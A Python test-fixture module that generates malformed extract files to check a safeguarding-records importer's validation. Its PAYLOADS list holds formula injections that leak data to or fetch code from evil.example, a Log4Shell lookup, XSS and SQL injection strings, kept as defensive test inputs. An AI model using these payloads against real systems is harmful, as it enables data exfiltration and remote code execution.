        "date-xlsx-number-infinite",
        kind,
        REJECTED,
        xlsx_changed(
            base(),
            lambda m: {
                **m,
                "xl/worksheets/sheet4.xml": _numeric_occurred(
                    m["xl/worksheets/sheet4.xml"], b"1E+400"
                ),
            },
        ),
        sheet="events",
        column="occurred",
    )


def _numeric_occurred(sheet_xml: bytes, number: bytes) -> bytes:
    """The events sheet with cell B3 (occurred of the second entry) made a number cell."""
    start = sheet_xml.index(b'<c r="B3"')
    end = sheet_xml.index(b"</c>", start) + 4
    return sheet_xml[:start] + b'<c r="B3" t="n"><v>' + number + b"</v></c>" + sheet_xml[end:]


def _nhs_numbers() -> Iterator[BadInput]:
    kind = "nhs_number"
    digits = VALID_NHS.replace(" ", "")
    wrong = [digits[:9] + str((int(digits[9]) + shift) % 10) for shift in (1, 2, 5)]
    impossible = next(
        f"{n:09d}0" for n in range(100_000_000, 100_001_000) if check_digit(f"{n:09d}") is None
    )
    values = [
        *wrong,
        "943 476 591",
        "943 476 59190",
        "943476591A",
        impossible,
        "０９４３４７６５９１９",
        "N/A",
        "943.476.5919",
        "9434765919 9434765919",
        9434765918,
    ]
    for number, value in enumerate(values):
        container = CONTAINERS[number % 4]
        slug = "".join(ch for ch in str(value) if ch.isalnum())[:12] or "blank"
        yield BadInput(
            f"nhs-{number:02d}-{slug}-{container}",
            kind,
            REJECTED,
            written(container, _edited("people", 0, nhs_number=value)),
            sheet="people",
            column="nhs_number",
        )


def _unknown_codes() -> Iterator[BadInput]:
    kind = "unknown_code"
    rejected = [
        ("people", "sex", ["F", "woman", "n/a"]),
        ("relationships", "relationship", ["mum", "stepfather", "carer"]),
        ("relationships", "parental_responsibility", ["partial"]),
        ("relationships", "pr_basis", ["court"]),
        ("relationships", "lives_with_child", ["sometimes"]),
        ("people", "interpreter_needed", ["y"]),
        ("events", "status", ["deleted", "closed", "active?"]),
        ("events", "child_seen", ["maybe"]),
        ("events", "seen_alone", ["unknown"]),
    ]
    number = 0
    for sheet, column, codes in rejected:
        for code in codes:
            container = CONTAINERS[number % 4]
            number += 1
            slug = "".join(ch for ch in code if ch.isalnum())
            yield BadInput(
                f"code-{column}-{slug}-{container}",
                kind,
                REJECTED,
                written(container, _edited(sheet, 0, **{column: code})),
                sheet=sheet,
                column=column,
            )
    for code in ("visit", "Home Visit!", "hv contact", "DOMESTIC"):
        container = CONTAINERS[number % 4]
        number += 1
        slug = "".join(ch for ch in code if ch.isalnum())
        yield BadInput(
            f"code-event-type-{slug}-{container}",
            kind,
            WARNED,
            written(container, _edited("events", 0, event_type=code)),
            sheet="events",
            column="event_type",
        )
    for code in ("polce", "Police Force", "nhs"):
        slug = "".join(ch for ch in code if ch.isalnum())
        yield BadInput(
            f"code-agency-{slug}",
            kind,
            REJECTED,
            written("csv", ExtractBuilder(**{**_fields(base()), "agency": code})),
            sheet="extract",
            column="agency",
        )
    yield BadInput(
        "code-agency-override",
        kind,
        REJECTED,
        written("csv", base()),
        sheet="options",
        column="agency",
        overrides=MetadataOverrides(agency="constabulary"),
    )


def _fields(builder: ExtractBuilder) -> dict[str, Any]:
    return {
        "organisation": builder.organisation,
        "agency": builder.agency,
        "area": builder.area,
        "people": builder.people,
        "relationships": builder.relationships,
        "events": builder.events,
    }


def _duplicate_refs() -> Iterator[BadInput]:
    kind = "duplicate_ref"
    for container in CONTAINERS:
        builder = base()
        builder.event("NP-1", "2024-04-01", "home_visit", "P1", "Second entry with the same ref")
        yield BadInput(
            f"duplicate-record-ref-{container}",
            kind,
            REJECTED,
            written(container, builder),
            sheet="events",
            column="record_ref",
        )
        builder = base()
        builder.person("P2", "Another", "Person")
        yield BadInput(
            f"duplicate-person-ref-{container}",
            kind,
            REJECTED,
            written(container, builder),
            sheet="people",
            column="person_ref",
        )
    spaced = base()
    spaced.event(" NP-2 ", "2024-04-01", "home_visit", "P1", "Same ref with spaces")
    yield BadInput(
        "duplicate-record-ref-with-spaces",
        kind,
        REJECTED,
        written("csv", spaced),
        sheet="events",
        column="record_ref",
    )
    thrice = base()
    for _ in range(2):
        thrice.event("NP-3", "2024-04-01", "home_visit", "P1", "Repeat")
    yield BadInput(
        "duplicate-record-ref-three-times",
        kind,
        REJECTED,
        written("xlsx", thrice),
        sheet="events",
        column="record_ref",
    )
    far = base()
    for number in range(200):
        far.event(f"X-{number}", "2024-04-01", "home_visit", "P1", f"Filler {number}")
    far.event("NP-1", "2024-05-01", "home_visit", "P1", "Far repeat")
    yield BadInput(
        "duplicate-record-ref-far-apart",
        kind,
        REJECTED,
        written("zip", far),
        sheet="events",
        column="record_ref",
    )
    numeric = base()
    numeric.event(7, "2024-04-01", "home_visit", "P1", "Number ref")
    numeric.event("7", "2024-04-02", "home_visit", "P1", "Text ref")
    yield BadInput(
        "duplicate-record-ref-number-and-text",
        kind,
        REJECTED,
        written("json", numeric),
        sheet="events",
        column="record_ref",
    )
    for container in ("csv", "xlsx"):
        twice = base()
        twice.relationship("P1", "mother", "P2")
        yield BadInput(
            f"duplicate-relationship-row-{container}",
            kind,
            REJECTED,
            written(container, twice),
            sheet="relationships",
        )


@lru_cache(maxsize=2)
def huge_text(size: int = TEN_MB, seed: int = 10) -> str:
    """`size` characters that do not compress much (so no zip-bomb check stops them first)."""
    return random.Random(seed).randbytes(size // 2 + 1).hex()[:size]


def huge_cell(container: str, sheet: str, column: str) -> Writer:
    """The extract with one 10 MB cell. openpyxl cuts cells at Excel's 32,767 characters, so
    the workbook is written with a marker that is then replaced in the sheet's XML."""
    if container != "xlsx":
        return lambda folder: written(container, _edited(sheet, 0, **{column: huge_text()}))(folder)
    marker = "HUGE-CELL-MARKER"

    def change(members: dict[str, bytes]) -> dict[str, bytes]:
        part = sheet_part(members, sheet)
        return {**members, part: members[part].replace(marker.encode(), huge_text().encode())}

    return xlsx_changed(_edited(sheet, 0, **{column: marker}), change)


def _huge_cells() -> Iterator[BadInput]:
    kind = "huge_cell"
    cases = [
        ("events", "summary", "csv"),
        ("events", "summary", "xlsx"),
        ("events", "summary", "json"),
        ("events", "detail", "zip"),
        ("events", "detail", "xlsx"),
        ("events", "attributes", "csv"),
        ("events", "record_ref", "json"),
        ("events", "occurred", "csv"),
        ("events", "occurred", "xlsx"),
        ("events", "subjects", "csv"),
        ("events", "case_notes", "csv"),
        ("events", "case_notes", "json"),
        ("people", "given_names", "zip"),
        ("people", "nhs_number", "csv"),
        ("people", "person_ref", "xlsx"),
        ("people", "notes", "xlsx"),
        ("relationships", "relationship", "json"),
    ]
    for sheet, column, container in cases:
        yield BadInput(
            f"huge-cell-{sheet}-{column}-{container}",
            kind,
            REJECTED,
            huge_cell(container, sheet, column),
            sheet=sheet,
            column=column,
        )
    yield BadInput(
        "huge-cell-compressible-in-zip",
        kind,
        REJECTED,
        written("zip", _edited("events", 0, detail="A" * TEN_MB)),
    )
    yield BadInput(
        "huge-cell-quoted-newlines",
        kind,
        REJECTED,
        written("csv", _edited("events", 0, detail="line\n" * (TEN_MB // 5))),
        sheet="events",
        column="detail",
    )
    yield BadInput(
        "huge-cell-column-name",
        kind,
        REJECTED,
        csv_with(
            base(),
            events=lambda d: b"\r\n".join(
                line + (b",x" if number else b"," + huge_text().encode()) if line else line
                for number, line in enumerate(d.split(b"\r\n"))
            ),
        ),
        sheet="events",
    )
    yield BadInput(
        "huge-cell-column-name-twice",
        kind,
        REJECTED,
        csv_with(
            base(),
            events=lambda d: b"\r\n".join(
                line + (b",x,y" if number else (b"," + huge_text().encode()) * 2) if line else line
                for number, line in enumerate(d.split(b"\r\n"))
            ),
        ),
        sheet="events",
    )
    yield BadInput(
        "huge-cell-organisation",
        kind,
        REJECTED,
        written("csv", ExtractBuilder(**{**_fields(base()), "organisation": huge_text()})),
        sheet="extract",
        column="organisation",
    )


CONTROL_CHARACTERS = ["\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[2J", "\x7f", "\x85", "\x9b"]


def _control_characters() -> Iterator[BadInput]:
    kind = "control_char"
    columns = [
        ("events", "summary"),
        ("people", "given_names"),
        ("events", "record_ref"),
        ("people", "person_ref"),
        ("events", "outcome"),
        ("events", "team"),
    ]
    number = 0
    for char in CONTROL_CHARACTERS:
        for container in ("csv", "json"):
            sheet, column = columns[number % len(columns)]
            number += 1
            value = f"before{char}after"
            yield BadInput(
                f"control-{ord(char[0]):02x}-{sheet}-{column}-{container}",
                kind,
                REJECTED,
                written(container, _edited(sheet, 0, **{column: value})),
                sheet=sheet,
                column=column,
            )
    for char in ("\x7f", "\x85", "\x9b"):
        yield BadInput(
            f"control-{ord(char):02x}-xlsx",
            kind,
            REJECTED,
            written("xlsx", _edited("events", 1, summary=f"Welfare{char}check")),
            sheet="events",
            column="summary",
        )
    yield BadInput(
        "control-nul-in-csv",
        kind,
        REJECTED,
        csv_with(base(), events=lambda d: d.replace(b"Welfare", b"Wel\x00fare")),
        sheet="events",
    )
    yield BadInput(
        "control-nul-in-json",
        kind,
        REJECTED,
        written("json", _edited("events", 1, summary="Wel\x00fare")),
        sheet="events",
        column="summary",
    )
    yield BadInput(
        "control-in-organisation",
        kind,
        REJECTED,
        written(
            "json", ExtractBuilder(**{**_fields(base()), "organisation": "NORTHSHIRE\x1bPOLICE"})
        ),
        sheet="extract",
        column="organisation",
    )


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    "=1+1",
    "'; DROP TABLE events; --",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "javascript:alert(1)",
    '=cmd|"/C powershell IEX(wget evil.example)"!A0',
    "</td></tr></table><h1>injected</h1>",
    "%0d%0aSet-Cookie: x=1",
]


def _payloads() -> Iterator[BadInput]:
    kind = "payload"
    fields = [
        ("events", "summary"),
        ("events", "detail"),
        ("events", "outcome"),
        ("events", "child_voice"),
        ("events", "source"),
        ("events", "worker_note"),
    ]
    number = 0
    for index, payload in enumerate(PAYLOADS):
        for container in CONTAINERS:
            sheet, column = fields[number % len(fields)]
            if index % 3 == 0 or column == "summary":
                sheet, column = "events", "summary"
            number += 1
            yield BadInput(
                f"payload-{index:02d}-{column}-{container}",
                kind,
                VERBATIM,
                written(container, _edited(sheet, 0, **{column: payload})),
                payload=payload,
            )
    for index, payload in enumerate(PAYLOADS[:6]):
        rows = sheet_rows(_edited("events", 0, summary=payload))
        yield BadInput(
            f"payload-{index:02d}-xlsx-text-cell",
            kind,
            VERBATIM,
            xlsx_sheets(rows, string_cells=True),
            payload=payload,
        )
    for index, payload in enumerate(PAYLOADS[:4]):
        yield BadInput(
            f"payload-{index:02d}-person-name",
            kind,
            VERBATIM,
            written(CONTAINERS[index], _edited("people", 0, given_names=payload)),
            payload=payload,
            shown_as=f"{payload} Doyle",
        )
    yield BadInput(
        "payload-record-ref",
        kind,
        VERBATIM,
        written("csv", _edited("events", 0, record_ref="<script>alert('ref')</script>")),
        payload="<script>alert('ref')</script>",
    )
    yield BadInput(
        "payload-attributes-value",
        kind,
        VERBATIM,
        written(
            "json", _edited("events", 0, attributes={"explanation": "<script>alert(2)</script>"})
        ),
        payload="<script>alert(2)</script>",
    )


def _empty() -> Iterator[BadInput]:
    kind = "empty"
    for suffix in ("xlsx", "zip", "json"):
        yield BadInput(f"empty-file-{suffix}", kind, REJECTED, raw_file(f"extract.{suffix}", b""))
    yield BadInput("empty-folder", kind, REJECTED, raw_csv({}))
    for stem in ("people", "events"):
        yield BadInput(
            f"empty-{stem}-csv", kind, REJECTED, csv_with(base(), **{stem: b""}), sheet=stem
        )
        yield BadInput(
            f"empty-{stem}-csv-bom-only",
            kind,
            REJECTED,
            csv_with(base(), **{stem: b"\xef\xbb\xbf"}),
            sheet=stem,
        )
        yield BadInput(
            f"empty-{stem}-csv-blank-lines",
            kind,
            REJECTED,
            csv_with(base(), "zip", **{stem: b"\r\n\r\n  \r\n"}),
            sheet=stem,
        )
    yield BadInput(
        "empty-every-csv",
        kind,
        REJECTED,
        csv_with(base(), people=b"", events=b"", relationships=b"", extract=b""),
    )
    yield BadInput("empty-json-object", kind, REJECTED, json_file({}))
    yield BadInput("empty-json-whitespace", kind, REJECTED, raw_file("extract.json", b" \n\t "))
    yield BadInput(
        "empty-xlsx-sheets",
        kind,
        REJECTED,
        xlsx_sheets({"extract": [], "people": [], "relationships": [], "events": []}),
        sheet="people",
    )


def _full_headers(builder: ExtractBuilder) -> ExtractBuilder:
    """The builder, writing every contract column even for a sheet with no rows."""
    original = builder.sheets
    contract = {"people": PEOPLE, "relationships": RELATIONSHIPS, "events": EVENTS}

    def sheets() -> dict[str, tuple[list[str], list[dict[str, Any]]]]:
        made = original()
        for name, columns in contract.items():
            if not made[name][1]:
                made[name] = (list(columns), [])
        return made

    builder.sheets = sheets  # type: ignore[method-assign]
    return builder


def _header_only() -> Iterator[BadInput]:
    kind = "header_only"
    for container in ("csv", "zip", "xlsx"):
        builder = base()
        builder.events.clear()
        yield BadInput(
            f"header-only-events-{container}",
            kind,
            WARNED,
            written(container, _full_headers(builder)),
            sheet="events",
        )
    for container in ("csv", "xlsx"):
        builder = base()
        builder.people.clear()
        yield BadInput(
            f"header-only-people-{container}",
            kind,
            WARNED,
            written(container, _full_headers(builder)),
            sheet="people",
        )
    for container in ("csv", "xlsx"):
        yield BadInput(
            f"header-only-every-sheet-{container}",
            kind,
            WARNED,
            written(container, _full_headers(ExtractBuilder())),
            sheet="events",
        )
    yield BadInput(
        "header-only-json-empty-lists",
        kind,
        REJECTED,
        json_file(
            {
                "extract": {"organisation": "NORTHSHIRE POLICE", "agency": "police"},
                "people": [],
                "events": [],
            }
        ),
        sheet="events",
    )
    yield BadInput(
        "header-only-extract-sheet",
        kind,
        REJECTED,
        xlsx_sheets({**sheet_rows(base()), "extract": [EXTRACT]}),
        sheet="extract",
    )


def _json_shapes() -> Iterator[BadInput]:
    kind = "json_shape"
    doc = json_document
    shapes: list[tuple[str, Callable[[], Any], str | None, str | None]] = [
        ("array-of-rows", lambda: doc(base())["events"], None, None),
        ("array-of-document", lambda: [doc(base())], None, None),
        ("string", lambda: "people,events", None, None),
        ("number", lambda: 42, None, None),
        ("true", lambda: True, None, None),
        ("null", lambda: None, None, None),
        (
            "people-object",
            lambda: {**doc(base()), "people": {"P1": {"given_names": "K"}}},
            "people",
            None,
        ),
        ("people-string", lambda: {**doc(base()), "people": "P1,P2"}, "people", None),
        (
            "events-list-of-lists",
            lambda: {**doc(base()), "events": [EVENTS[:5], ["R1"]]},
            "events",
            None,
        ),
        (
            "events-mixed-items",
            lambda: {**doc(base()), "events": [*doc(base())["events"], 5]},
            "events",
            None,
        ),
        ("events-null", lambda: {**doc(base()), "events": None}, "events", None),
        (
            "extract-two-rows",
            lambda: {**doc(base()), "extract": [doc(base())["extract"]] * 2},
            "extract",
            None,
        ),
        (
            "extract-string",
            lambda: {**doc(base()), "extract": "NORTHSHIRE POLICE"},
            "extract",
            None,
        ),
        (
            "summary-object",
            lambda: doc(_edited("events", 0, summary={"text": "hi"})),
            "events",
            "summary",
        ),
        (
            "summary-list",
            lambda: doc(_edited("events", 0, summary=["a", "b"])),
            "events",
            "summary",
        ),
        (
            "subjects-objects",
            lambda: doc(_edited("events", 0, subjects=[{"ref": "P1"}])),
            "events",
            "subjects",
        ),
        (
            "record-ref-object",
            lambda: doc(_edited("events", 0, record_ref={"id": 1})),
            "events",
            "record_ref",
        ),
        (
            "person-ref-list",
            lambda: doc(_edited("people", 0, person_ref=["P1", "P9"])),
            "people",
            "person_ref",
        ),
        (
            "attributes-list",
            lambda: doc(_edited("events", 0, attributes=[1, 2])),
            "events",
            "attributes",
        ),
        (
            "attributes-string",
            lambda: doc(_edited("events", 0, attributes="injury")),
            "events",
            "attributes",
        ),
        (
            "agency-list",
            lambda: {**doc(base()), "extract": {"organisation": "X", "agency": ["police", "gp"]}},
            "extract",
            "agency",
        ),
        ("sex-number", lambda: doc(_edited("people", 0, sex=1)), "people", "sex"),
    ]
    for name, make, sheet, column in shapes:
        yield BadInput(f"json-{name}", kind, REJECTED, json_file(make), sheet=sheet, column=column)
    raw = [
        ("deep-nesting", b"[" * 5000 + b"]" * 5000),
        ("nan-literal", b'{"events": NaN}'),
        ("trailing-garbage", b'{"people": [], "events": []} trailing'),
        ("two-documents", b'{"people": []}\n{"events": []}'),
        ("json-lines", b'{"record_ref": "R1"}\n{"record_ref": "R2"}\n'),
        ("single-quotes", b"{'people': []}"),
        ("number-too-large", b'{"events": [1e400]}'),
        ("unpaired-surrogate", b'{"people": [{"person_ref": "\\ud800"}], "events": []}'),
        ("truncated", b'{"extract": {"organisation": "NORTHSHIRE POLICE", "agen'),
    ]
    for name, data in raw:
        yield BadInput(f"json-{name}", kind, REJECTED, raw_file("extract.json", data))


def _xlsx_sheets() -> Iterator[BadInput]:
    kind = "xlsx_sheets"
    full = sheet_rows(base())
    for missing in ("people", "events"):
        yield BadInput(
            f"xlsx-sheet-missing-{missing}",
            kind,
            REJECTED,
            xlsx_sheets({k: v for k, v in full.items() if k != missing}),
            sheet=missing,
        )
    renames = [
        ("events", "evnets"),
        ("events", "event"),
        ("events", "Events Data"),
        ("people", "Persons"),
        ("people", "Sheet2"),
    ]
    for sheet, title in renames:
        slug = title.lower().replace(" ", "-")
        yield BadInput(
            f"xlsx-sheet-renamed-{sheet}-{slug}",
            kind,
            REJECTED,
            xlsx_sheets({title if k == sheet else k: v for k, v in full.items()}),
            sheet=sheet,
        )
    yield BadInput(
        "xlsx-sheets-default-names",
        kind,
        REJECTED,
        xlsx_sheets({f"Sheet{number}": rows for number, rows in enumerate(full.values(), start=1)}),
        sheet="people",
    )
    yield BadInput(
        "xlsx-sheet-people-twice",
        kind,
        REJECTED,
        xlsx_sheets({**full, "People ": full["people"]}),
        sheet="people",
    )
    yield BadInput(
        "xlsx-header-in-second-row",
        kind,
        REJECTED,
        xlsx_sheets(
            {
                **full,
                "events": [["Northshire Police extract for case RR-2024-017"], *full["events"]],
            }
        ),
        sheet="events",
        column="record_ref",
    )
    yield BadInput(
        "xlsx-only-an-unrelated-sheet",
        kind,
        REJECTED,
        xlsx_sheets({"Summary": [["Nothing here"]]}),
        sheet="people",
    )
    yield BadInput(
        "xlsx-no-extract-sheet",
        kind,
        REJECTED,
        xlsx_sheets({k: v for k, v in full.items() if k != "extract"}),
        sheet="extract",
        column="organisation",
    )


def _extra_cells() -> Iterator[BadInput]:
    kind = "extra_cells"
    markers = (("people", b"Kerry"), ("events", b"Welfare"), ("relationships", b"mother"))
    for stem, marker in markers:
        for container in ("csv", "zip"):

            def longer(data: bytes, m: bytes = marker) -> bytes:
                lines = data.split(b"\r\n")
                lines = [line + b",surplus" if m in line else line for line in lines]
                return b"\r\n".join(lines)

            yield BadInput(
                f"extra-cells-{stem}-{container}",
                kind,
                REJECTED,
                csv_with(base(), container, **{stem: longer}),
                sheet=stem,
            )
    rows = sheet_rows(base())
    rows["events"][2] = [*rows["events"][2], None, None, "stray value"]
    yield BadInput(
        "extra-cells-xlsx-beyond-header", kind, REJECTED, xlsx_sheets(rows), sheet="events"
    )
    rows = sheet_rows(base())
    for number, row in enumerate(rows["events"]):
        row.insert(3, None if number == 0 else ("stray" if number == 2 else None))
    yield BadInput(
        "extra-cells-xlsx-blank-header-column", kind, REJECTED, xlsx_sheets(rows), sheet="events"
    )
    yield BadInput(
        "extra-cells-csv-blank-header-column",
        kind,
        REJECTED,
        csv_with(
            base(),
            events=lambda d: b"\r\n".join(
                (b"," if number == 0 else b"note,") + line if line else line
                for number, line in enumerate(d.split(b"\r\n"))
            ),
        ),
        sheet="events",
    )


def _csv_syntax() -> Iterator[BadInput]:
    kind = "csv_syntax"
    yield BadInput(
        "csv-unbalanced-quote-at-end",
        kind,
        REJECTED,
        csv_with(
            base(), events=lambda d: d + b'NP-9,2024-03-01,,,home_visit,P1,"Visit never closed\r\n'
        ),
        sheet="events",
    )
    yield BadInput(
        "csv-text-after-closing-quote",
        kind,
        REJECTED,
        csv_with(base(), people=lambda d: d.replace(b"Kerry", b'"Ker"ry')),
        sheet="people",
    )
    yield BadInput(
        "csv-concatenated-exports",
        kind,
        REJECTED,
        csv_with(base(), events=lambda d: d + d),
        sheet="events",
        column="occurred",
    )
    yield BadInput(
        "csv-header-in-second-line",
        kind,
        REJECTED,
        csv_with(base(), events=lambda d: b"Northshire Police events export\r\n" + d),
        sheet="events",
        column="record_ref",
    )


def _containers() -> Iterator[BadInput]:
    kind = "container"
    yield BadInput(
        "container-single-csv",
        kind,
        REJECTED,
        raw_file("events.csv", lambda: csv_files(base())["events.csv"]),
    )
    yield BadInput(
        "container-txt",
        kind,
        REJECTED,
        raw_file("extract.txt", lambda: csv_files(base())["events.csv"]),
    )
    yield BadInput(
        "container-no-suffix", kind, REJECTED, raw_file("extract", lambda: xlsx_bytes(base()))
    )
    yield BadInput(
        "container-ods",
        kind,
        REJECTED,
        raw_file(
            "extract.ods", b"PK\x03\x04mimetypeapplication/vnd.oasis.opendocument.spreadsheet"
        ),
    )
    yield BadInput(
        "container-xls",
        kind,
        REJECTED,
        raw_file("extract.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)),
    )
    yield BadInput(
        "container-json-holding-xlsx",
        kind,
        REJECTED,
        raw_file("extract.json", lambda: xlsx_bytes(base())),
    )
    yield BadInput(
        "container-zip-holding-xlsx",
        kind,
        REJECTED,
        raw_file("extract.zip", lambda: _zip_entries([("extract.xlsx", xlsx_bytes(base()))])),
    )
    yield BadInput("container-folder-of-subfolders", kind, REJECTED, _nested_folder)
    yield BadInput("container-missing-path", kind, REJECTED, lambda folder: folder / "gone.xlsx")


def _nested_folder(folder: Path) -> Path:
    target = folder / "extract"
    base().write_csv_folder(target / "inner")
    return target


def _metadata() -> Iterator[BadInput]:
    kind = "metadata"
    yield BadInput(
        "metadata-no-extract-csv",
        kind,
        REJECTED,
        csv_with(base(), extract=None),
        sheet="extract",
        column="organisation",
    )
    for field_name in ("organisation", "agency"):
        yield BadInput(
            f"metadata-{field_name}-blank",
            kind,
            REJECTED,
            written("xlsx", ExtractBuilder(**{**_fields(base()), field_name: ""})),
            sheet="extract",
            column=field_name,
        )
    yield BadInput(
        "metadata-two-extract-rows",
        kind,
        REJECTED,
        csv_with(base(), extract=lambda d: d + d.split(b"\r\n")[1] + b"\r\n"),
        sheet="extract",
    )
    yield BadInput(
        "metadata-organisation-too-long",
        kind,
        REJECTED,
        written("json", ExtractBuilder(**{**_fields(base()), "organisation": "N" * 300})),
        sheet="extract",
        column="organisation",
    )
    yield BadInput(
        "metadata-extracted-on-month-first",
        kind,
        REJECTED,
        written("csv", _dated("extract", "extracted_on", "12/31/2024")),
        sheet="extract",
        column="extracted_on",
    )


def _warnings() -> Iterator[BadInput]:
    kind = "warning_only"
    for container in CONTAINERS:
        yield BadInput(
            f"warning-future-date-{container}",
            kind,
            WARNED,
            written(container, _edited("events", 2, occurred="2099-01-01")),
            sheet="events",
            column="occurred",
        )
        yield BadInput(
            f"warning-subject-not-in-people-{container}",
            kind,
            WARNED,
            written(container, _edited("events", 1, subjects="P2;P77")),
            sheet="events",
            column="subjects",
        )
    yield BadInput(
        "warning-relationship-to-unknown-person",
        kind,
        WARNED,
        written("xlsx", _edited("relationships", 0, related_person_ref="P99")),
        sheet="relationships",
        column="related_person_ref",
    )
    yield BadInput(
        "warning-every-kind-at-once", kind, WARNED, written("csv", _many_warnings()), sheet="events"
    )


def _many_warnings() -> ExtractBuilder:
    builder = _edited("events", 0, event_type="strange_visit", occurred="?2098")
    builder.events[1]["subjects"] = "P1;NOBODY"
    builder.relationships[0]["person_ref"] = "GHOST"
    return builder


__all__ = ["CONTAINERS", "PEOPLE", "RELATIONSHIPS", "BadInput", "Outcome", "by_kind", "corpus"]
